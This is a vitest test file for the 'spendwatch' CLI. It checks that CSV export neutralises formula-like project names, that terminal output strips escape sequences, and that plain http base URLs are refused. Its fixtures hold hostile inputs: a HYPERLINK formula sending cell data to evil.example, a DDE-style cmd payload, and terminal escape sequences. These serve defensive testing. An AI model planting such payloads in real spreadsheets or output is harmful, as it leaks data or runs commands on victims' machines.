/**
 * Output others' text cannot take over: project names (any org member can set them) that look like
 * spreadsheet formulas or carry terminal escape sequences, through `export` and `status`; a reader that
 * goes away (`spendwatch export | head -1`); plain http:// base URLs.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FakeOpenAiServer } from '../../fake-openai/fake-openai-server';
import { smallOrganisation, utcDay } from '../../fake-openai/organisations';
import { ensureCliBuilt, runCli } from '../../support/cli';

const HOSTILE = {
  proj_alpha: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  proj_beta: "@SUM(1+1)*cmd|' /C calc'!A0",
  proj_old: '\u001b[31mRed\u001b]0;pwned\u0007 \u001b[2Jname\u0007',
};

describe.runIf(Boolean(process.env.DBUS_SESSION_BUS_ADDRESS))('spendwatch output safety', () => {
  const key = `sk-admin-hostile${Date.now()}xxxxxxxxxxxxxxxxx`;
  const org = smallOrganisation(400);
  for (const project of org.projects) project.name = HOSTILE[project.id as keyof typeof HOSTILE];
  org.costs[utcDay(0)].push(
    { projectId: 'proj_beta', lineItem: '+tab\tinjection, input', value: 0.5 },
    { projectId: 'proj_beta', lineItem: '-10+20', value: 0.25 },
  );
  const home = mkdtempSync(join(tmpdir(), 'sw-cli-safe-'));
  let server: FakeOpenAiServer;
  let baseUrl: string;

  beforeAll(async () => {
    ensureCliBuilt();
    server = new FakeOpenAiServer({ [key]: org });
    baseUrl = await server.start();
    expect(
      (
        await runCli(['accounts', 'add', '--provider', 'openai', '--name', 'Acme Prod', '--base-url', baseUrl], {
          home,
          input: key,
        })
      ).code,
    ).toBe(0);
    expect((await runCli(['sync'], { home })).code).toBe(0);
  });
  afterAll(async () => {
    await runCli(['accounts', 'remove', 'Acme Prod'], { home });
    await server.stop();
  });

  it('exports formula-like names as text that stays readable', async () => {
    const r = await runCli(['export', '--from', utcDay(0), '--to', utcDay(0)], { home });
    expect(r.code).toBe(0);
    const cells = r.stdout
      .match(/"(?:[^"]|"")*"|[^,\n]+/g)!
      .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${HOSTILE.proj_alpha}`);
    expect(cells).toContain(`'${HOSTILE.proj_beta}`);
    expect(cells).toContain("'+tab\tinjection, input");
    expect(cells).toContain("'-10+20");
  });

  it('prints names on the terminal without escape sequences or control characters', async () => {
    const r = await runCli(['status'], { home });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Red name');
    // eslint-disable-next-line no-control-regex
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    // JSON stays exact (control characters escaped by JSON itself).
    const doc = JSON.parse((await runCli(['status', '--json'], { home })).stdout);
    expect(doc.accounts[0].byProject.map((p: { name: string }) => p.name)).toContain(HOSTILE.proj_old);
  });

  it('ends quietly when the reader goes away (export | head -1)', async () => {
    const result = await new Promise<{ code: number | null; stderr: string; stdout: string }>((resolve) => {
      const child = spawn('sh', ['-c', 'node bin/spendwatch.cjs export | head -1; echo "exit:${PIPESTATUS:-$?}"'], {
        env: { ...process.env, SPENDWATCH_HOME: home },
      });
      let stderr = '';
      let stdout = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      child.on('close', (code) => resolve({ code, stderr, stdout }));
    });
    expect(result.stdout.split('\n')[0]).toBe(
      'date_utc,account,project_id,project_name,line_item,amount,currency,api_key_id,quantity,quantity_unit,provider',
    );
    expect(result.stderr).toBe('');
  });

  it('refuses plain http:// base URLs except loopback', async () => {
    const other = mkdtempSync(join(tmpdir(), 'sw-cli-safe-'));
    const r = await runCli(
      ['accounts', 'add', '--provider', 'openai', '--name', 'Plain', '--base-url', 'http://api.example.com/v1'],
      { home: other, input: key },
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/Plain http:\/\/ is refused/);
    expect(server.requests.some((req) => req.key === null)).toBe(false);
  });
});
